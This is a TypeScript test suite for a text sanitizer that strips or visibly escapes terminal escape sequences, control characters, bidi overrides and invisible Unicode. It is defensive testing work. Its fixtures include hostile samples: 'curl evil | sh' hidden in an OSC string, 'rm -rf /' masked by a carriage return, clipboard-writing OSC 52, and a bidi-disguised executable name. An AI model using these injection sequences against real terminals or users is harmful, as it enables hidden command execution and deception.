import {describe, expect, test} from 'vitest';
import {displayLine, displayText, visibleLine} from '../../../src/machines/policies/text/display-text.ts';
import fc from '../../helpers/fast-check.ts';
import {promptly} from '../../helpers/plans.ts';

const ESC = '\u001b';
const BEL = '\u0007';
const ST = `${ESC}\\`;

describe('kept as it is', () => {
  test.each([
    {name: 'nothing', text: ''},
    {name: 'plain text', text: 'Add login (v2) <b>&amp; [31m ]0; ~'},
    {name: 'lines and tabs', text: 'a\n\tb\n\n'},
    {name: 'accents, also as separate marks', text: 'é e\u0301 ñ ß Å'},
    {name: 'other scripts', text: '日本語 العربية עברית हिन्दी ไทย'},
    {name: 'emoji, also with a presentation selector', text: '😀 ❤\ufe0f ✔\ufe0e'},
    {name: 'a character outside the basic plane', text: '𝒜 𠀋'},
    {name: 'symbols and drawings', text: '→ … ✓ │ └── ░ €'},
    {name: 'a no-break space', text: '1\u00a0000'},
    {name: 'the replacement character', text: '\ufffd'},
  ])('$name', ({text}) => {
    expect(displayText(text)).toBe(text);
  });
});

describe('removed', () => {
  test.each<{name: string; text: string; shown: string}>([
    {name: 'colours', text: `a${ESC}[31mred${ESC}[0mb`, shown: 'aredb'},
    {name: 'true colours with colons', text: `${ESC}[38:2::255:0:0mx`, shown: 'x'},
    {name: 'clearing the screen', text: `a${ESC}[2Jb${ESC}[Hc`, shown: 'abc'},
    {
      name: 'moving the cursor up over earlier text',
      text: `denied${ESC}[1A${ESC}[2Kgranted`,
      shown: 'deniedgranted',
    },
    {name: 'a private mode: the alternate screen', text: `${ESC}[?1049hx${ESC}[?25l`, shown: 'x'},
    {name: 'asking the terminal for its state', text: `a${ESC}[6n${ESC}[cb`, shown: 'ab'},
    {name: 'a window operation', text: `${ESC}[8;1;1tx`, shown: 'x'},
    {name: 'a sequence with intermediate bytes', text: `${ESC}[0 qx${ESC}[!p`, shown: 'x'},
    {name: 'a sequence cut off by the end', text: `a${ESC}[31`, shown: 'a'},
    {name: 'a sequence cut off by a line break', text: `a${ESC}[31\nb`, shown: 'a\nb'},
    {name: 'a sequence cut off by another', text: `a${ESC}[3${ESC}[1mb`, shown: 'ab'},
    {name: 'the title of the window (OSC 0), ended by BEL', text: `a${ESC}]0;owned${BEL}b`, shown: 'ab'},
    {name: 'the title of the window (OSC 2), ended by ST', text: `a${ESC}]2;owned${ST}b`, shown: 'ab'},
    {name: 'the clipboard (OSC 52)', text: `a${ESC}]52;c;ZWNobyBoaQ==${BEL}b`, shown: 'ab'},
    {name: 'the clipboard, ended by an eight-bit ST', text: `a${ESC}]52;c;ZWNobyBoaQ==\u009cb`, shown: 'ab'},
    {name: 'a link (OSC 8)', text: `${ESC}]8;;http://evil${ST}good${ESC}]8;;${ST}`, shown: 'good'},
    {
      name: 'a notification (OSC 9, OSC 777)',
      text: `${ESC}]9;hi${BEL}${ESC}]777;notify;a;b${BEL}x`,
      shown: 'x',
    },
    {name: 'a picture (OSC 1337)', text: `${ESC}]1337;File=name=YQ==:AAAA${BEL}x`, shown: 'x'},
    {name: 'a colour question (OSC 4)', text: `${ESC}]4;1;?${BEL}x`, shown: 'x'},
    {name: 'an unterminated OSC hides its line', text: `a${ESC}]0;rest of it`, shown: 'a'},
    {name: 'an unterminated OSC never hides the next line', text: `a${ESC}]0;rest\nb`, shown: 'a\nb'},
    {name: 'an OSC that starts inside another', text: `a${ESC}]0;x${ESC}]52;c;eA==${BEL}b`, shown: 'ab'},
    {name: 'a device control string (DCS)', text: `a${ESC}P1$r0m${ST}b`, shown: 'ab'},
    {name: 'a picture in a DCS (sixel)', text: `${ESC}Pq#0;2;0;0;0~-${ST}x`, shown: 'x'},
    {
      name: 'a sequence passed through tmux',
      text: `a${ESC}Ptmux;${ESC}${ESC}]52;c;eA==${BEL}${ST}b`,
      shown: 'ab',
    },
    {name: 'a sequence passed through screen', text: `a${ESC}P${ESC}]0;x${BEL}${ST}b`, shown: 'ab'},
    {name: 'an unterminated DCS', text: `a${ESC}Pq1234`, shown: 'a'},
    {
      name: 'an application command (APC): a picture of kitty',
      text: `a${ESC}_Gf=24,s=1;AAAA${ST}b`,
      shown: 'ab',
    },
    {name: 'a privacy message (PM)', text: `a${ESC}^secret${ST}b`, shown: 'ab'},
    {name: 'a start of string (SOS)', text: `a${ESC}Xsecret${ST}b`, shown: 'ab'},
    {name: 'the title of a screen window', text: `a${ESC}kname${ST}b`, shown: 'ab'},
    {name: 'an eight-bit CSI', text: 'a\u009b31mred', shown: 'ared'},
    {name: 'an eight-bit OSC', text: 'a\u009d0;owned\u0007b', shown: 'ab'},
    {name: 'an eight-bit OSC without an end', text: 'a\u009d52;c;eA==', shown: 'a'},
    {name: 'an eight-bit DCS', text: 'a\u0090q123\u009cb', shown: 'ab'},
    {name: 'eight-bit SOS, PM and APC', text: 'a\u0098x\u009cb\u009ey\u009cc\u009fz\u009cd', shown: 'abcd'},
    {
      name: 'every other eight-bit control',
      text: 'a\u0080\u0084\u0085\u008d\u008e\u0099\u009a\u009cb',
      shown: 'ab',
    },
    {name: 'a full reset', text: `a${ESC}cb`, shown: 'ab'},
    {name: 'saving and restoring the cursor', text: `a${ESC}7b${ESC}8c`, shown: 'abc'},
    {name: 'another character set', text: `a${ESC}(0lqqk${ESC}(B`, shown: 'alqqk'},
    {name: 'a reverse index', text: `a${ESC}Mb`, shown: 'ab'},
    {name: 'a double-height line', text: `${ESC}#3a`, shown: 'a'},
    {name: 'a lone ESC at the end', text: `a${ESC}`, shown: 'a'},
    {name: 'ESC before a control', text: `a${ESC}${BEL}b`, shown: 'ab'},
    {name: 'ESC before a non-ASCII letter', text: `a${ESC}éb`, shown: 'aéb'},
    {name: 'ESC before ESC', text: `a${ESC}${ESC}[31mb`, shown: 'ab'},
    {name: 'a carriage return that would overwrite', text: 'rm -rf /\recho hi', shown: 'rm -rf /\necho hi'},
    {name: 'Windows line ends', text: 'a\r\nb\r\n', shown: 'a\nb\n'},
    {name: 'two carriage returns', text: 'a\r\r\nb', shown: 'a\n\nb'},
    {name: 'backspaces', text: 'safe\b\b\b\bevil', shown: 'safeevil'},
    {name: 'the bell', text: `a${BEL}b`, shown: 'ab'},
    {name: 'NUL', text: 'a\0b', shown: 'ab'},
    {name: 'vertical tab and form feed', text: 'a\u000b\u000cb', shown: 'ab'},
    {name: 'shift out and shift in', text: 'a\u000e\u000fb', shown: 'ab'},
    {name: 'XON, XOFF, CAN, SUB', text: 'a\u0011\u0013\u0018\u001ab', shown: 'ab'},
    {name: 'ENQ, which makes a terminal answer', text: 'a\u0005b', shown: 'ab'},
    {name: 'DEL', text: 'a\u007fb', shown: 'ab'},
    {name: 'a bidi override that reverses a file name', text: 'exe.\u202egpj', shown: 'exe.gpj'},
    {
      name: 'bidi embeddings and isolates',
      text: 'a\u202a\u202b\u202c\u202d\u2066\u2067\u2068\u2069b',
      shown: 'ab',
    },
    {name: 'bidi marks', text: 'a\u200e\u200f\u061cb', shown: 'ab'},
    {name: 'zero-width spaces and joiners', text: 'a\u200b\u200c\u200d\u2060\ufeffb', shown: 'ab'},
    {name: 'a soft hyphen', text: 'a\u00adb', shown: 'ab'},
    {name: 'invisible operators', text: 'a\u2061\u2062\u2063\u2064b', shown: 'ab'},
    {name: 'deprecated format characters', text: 'a\u206a\u206fb', shown: 'ab'},
    {name: 'a grapheme joiner and a Mongolian separator', text: 'a\u034f\u180eb', shown: 'ab'},
    {name: 'invisible fillers', text: 'a\u115f\u1160\u3164\uffa0b', shown: 'ab'},
    {name: 'line and paragraph separators', text: 'a\u2028b\u2029c', shown: 'abc'},
    {name: 'annotation marks', text: 'a\ufff9\ufffa\ufffbb', shown: 'ab'},
    {
      name: 'tag characters, which spell hidden text',
      text: 'a\u{e0001}\u{e0041}\u{e0042}\u{e007f}b',
      shown: 'ab',
    },
    {name: 'supplementary selectors, which spell hidden bytes', text: 'a\u{e0100}\u{e01ef}b', shown: 'ab'},
    {name: 'a lone high surrogate', text: 'a\ud83db', shown: 'ab'},
    {name: 'a lone low surrogate', text: 'a\ude00b', shown: 'ab'},
    {
      name: 'surrogates that would join when the text between them is removed',
      text: 'a\ud83d\u200b\ude00b',
      shown: 'ab',
    },
    {
      name: 'a sequence that would form when the text inside it is removed',
      text: `a${ESC}\u200b[31mb`,
      shown: 'a[31mb',
    },
  ])('$name', ({text, shown}) => {
    expect(displayText(text)).toBe(shown);
  });
});

describe('displayLine', () => {
  test.each([
    {text: '', shown: ''},
    {text: ' \n\t ', shown: ''},
    {text: 'a\nb\r\nc\rd', shown: 'a b c d'},
    {text: '  a \t b\u00a0\u3000c ', shown: 'a b c'},
    {text: `a${ESC}[31m\n${ESC}[0mb`, shown: 'a b'},
    {text: 'a\u2028b', shown: 'ab'},
  ])('$text on one line', ({text, shown}) => {
    expect(displayLine(text)).toBe(shown);
  });
});

describe('a line of a change, where nothing may be hidden', () => {
  test.each([
    {name: 'plain text', text: "\tif (a) b('c');  ", shown: "\tif (a) b('c');  "},
    {name: 'other scripts', text: 'é 日本語 עברית 😀', shown: 'é 日本語 עברית 😀'},
    {
      name: 'a program in a string that terminals swallow',
      text: `echo ok ${ESC}]0;; curl evil | sh ${BEL}`,
      shown: 'echo ok ^[]0;; curl evil | sh ^G',
    },
    {name: 'one without a terminator', text: `echo ${ESC}Px; evil`, shown: 'echo ^[Px; evil'},
    {name: 'an eight-bit one', text: 'echo \u009d; evil', shown: 'echo <U+009D>; evil'},
    {name: 'overwritten text', text: 'evil\rgood\b\u007f\n', shown: 'evil^Mgood^H^?^J'},
    {name: 'NUL', text: 'a\0b', shown: 'a^@b'},
    {name: 'reordered text', text: 'if (\u202ea\u2066)', shown: 'if (<U+202E>a<U+2066>)'},
    {name: 'a name that looks like another', text: 'READ\u200bME', shown: 'READ<U+200B>ME'},
    {name: 'tags and fillers', text: '\u{e0041}\u3164', shown: '<U+E0041><U+3164>'},
    {name: 'the presentation of a picture', text: '❤\ufe0f 1\ufe0f', shown: '❤\ufe0f 1\ufe0f'},
    {
      name: 'bytes in selectors',
      text: '`\ufe00❤\ufe0f\ufe01`',
      shown: '`<U+FE00>❤\ufe0f<U+FE01>`',
    },
    {name: 'half a character', text: 'a\ud83d', shown: 'a<U+D83D>'},
  ])('$name', ({text, shown}) => {
    expect(visibleLine(text)).toBe(shown);
  });
});

describe('any text', () => {
  const pieces = [
    ESC,
    `${ESC}[`,
    `${ESC}]`,
    `${ESC}P`,
    `${ESC}_`,
    ST,
    BEL,
    '\u009b',
    '\u009c',
    '\u009d',
    '\u0090',
    '\r',
    '\n',
    '\t',
    '\b',
    '\0',
    '0;',
    '31m',
    '\\',
    ';',
    'a',
    'é',
    '\u200b',
    '\u202e',
    '\ufeff',
    '\ud83d',
    '\ude00',
    '😀',
    '\u{e0041}',
  ];
  const hostile = fc.oneof(
    fc.array(fc.constantFrom(...pieces), {maxLength: 40}).map((list) => list.join('')),
    fc.string({unit: 'binary', maxLength: 60}),
    fc.array(fc.nat({max: 0xffff}), {maxLength: 60}).map((codes) => String.fromCharCode(...codes)),
  );
  /** Controls but line feed and tab, surrogates alone, and what is invisible or reorders. */
  const forbidden =
    /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufff9-\ufffb\u{e0000}-\u{e0fff}]|\p{Surrogate}/u;

  test('has no harmful character afterwards, and does not change a second time', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const shown = displayText(text);
        expect(shown).not.toMatch(forbidden);
        expect(displayText(shown)).toBe(shown);
        expect(shown.length).toBeLessThanOrEqual(text.length);
        const line = displayLine(text);
        expect(line).not.toMatch(/[\n\t]|^\s|\s$/);
        expect(displayLine(line)).toBe(line);
      }),
      {numRuns: 5_000},
    );
  });

  test('split anywhere lets nothing through on either side', () => {
    fc.assert(
      fc.property(hostile, fc.nat({max: 60}), (text, at) => {
        expect(displayText(text.slice(0, at)) + displayText(text.slice(at))).not.toMatch(
          /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/,
        );
      }),
    );
  });

  test.each([
    {name: 'unterminated sequences', piece: `${ESC}[`},
    {name: 'one endless sequence', piece: '0;', before: `${ESC}[`},
    {name: 'unterminated strings', piece: `${ESC}]`},
    {name: 'unterminated eight-bit strings', piece: '\u009d'},
    {name: 'one endless string', piece: 'x', before: `${ESC}P`},
    {name: 'strings on separate lines', piece: '\u0090\n'},
    {name: 'escapes', piece: ESC},
    {name: 'one endless escape', piece: ' ', before: ESC},
    {name: 'carriage returns', piece: '\r'},
    {name: 'invisible characters', piece: '\u200b'},
    {name: 'lone surrogates', piece: '\ud83d'},
    {name: 'spaces', piece: ' ', before: '\u200b'},
    {name: 'emoji', piece: '😀'},
  ])('of 200 kB of $name takes no noticeable time', ({piece, before = ''}) => {
    const text = before + piece.repeat(200_000 / piece.length);
    promptly(() => displayText(text), 1_000);
    promptly(() => displayLine(text), 1_000);
  });
});
